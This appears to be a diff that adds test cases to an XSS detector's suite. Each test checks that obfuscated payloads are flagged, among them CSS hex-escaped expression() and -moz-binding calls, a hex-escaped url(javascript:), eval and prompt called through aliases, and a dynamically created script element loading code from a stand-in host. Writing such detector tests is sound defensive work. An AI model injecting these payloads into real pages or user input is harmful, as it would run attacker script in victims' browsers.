@@ -86,4 +86,52 @@ describe('xss detector', () => {
     );
     assert.equal(scores('[1].find(alert)').get('xss.computed-call'), 5);
   });
+
+  test('reads CSS the way a browser does: escapes, comments and script URLs in url()', () => {
+    // `-moz-binding` spelled with a backslash before every letter, and with hex escapes.
+    assert.equal(
+      scores('<p style="\\2d moz\\-b\\i\\nding:url(//evil.example/x.xml#a)">').get('xss.css-expression'),
+      5,
+    );
+    assert.equal(scores('<p style="w\\69 dth:e\\78pression(alert(1))">').get('xss.css-expression'), 5);
+    assert.equal(scores('<p style="width:exp/* gap */ression(alert(1))">').get('xss.css-expression'), 5);
+    // `url(javascript:…)` written in CSS hex escapes (IE fetched it as a script).
+    const escaped = [...'javascript:alert(7)'].map((c) => `\\${c.charCodeAt(0).toString(16)} `).join('');
+    assert.equal(scores(`<p style="background:url('${escaped}')">`).get('xss.css-expression'), 5);
+    // Benign look-alikes: an escaped font name, an image url.
+    assert.equal(strongest('<p style="font-family:\\5b8b\\4f53; background:url(/img/bg.png)">'), 2);
+  });
+
+  test('an XHTML prefix does not hide the element, nor an end tag its style', () => {
+    assert.equal(
+      scores('<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>').get('xss.script-tag'),
+      5,
+    );
+    assert.equal(scores('</p style="x:expression(go())">').get('xss.css-expression'), 5);
+    assert.equal(strongest('</b></i>'), 0);
+  });
+
+  test('a dialog or eval stored in a variable and called through it', () => {
+    assert.equal(scores('k=confirm;k(document.domain)').get('xss.sink-alias'), 5);
+    assert.equal(scores('x];run=eval,msg=prompt;run(msg(2))//').get('xss.sink-alias'), 5);
+    // Stored but never called: still only a reference.
+    assert.equal(scores('callback=alert,').get('xss.sink-alias'), undefined);
+    assert.equal(strongest('We raise an alert, then evaluate (quickly) the result'), 0);
+  });
+
+  test('comments between a sink and its parenthesis, a ternary before it', () => {
+    assert.equal(scores('onclick=prompt/* x */(1)').get('xss.js-sink'), 5);
+    assert.equal(scores('x?confirm(1):0').get('xss.js-sink'), 5);
+  });
+
+  test('a script element built by script', () => {
+    assert.equal(
+      scores("d=document;d.body.appendChild(d.createElement('script')).src='//x.example/a.js'").get(
+        'xss.dom-element',
+      ),
+      5,
+    );
+    assert.equal(scores('createElement( "iframe" )').get('xss.dom-element'), 5);
+    assert.equal(strongest('use createElement to build a div'), 0);
+  });
 });
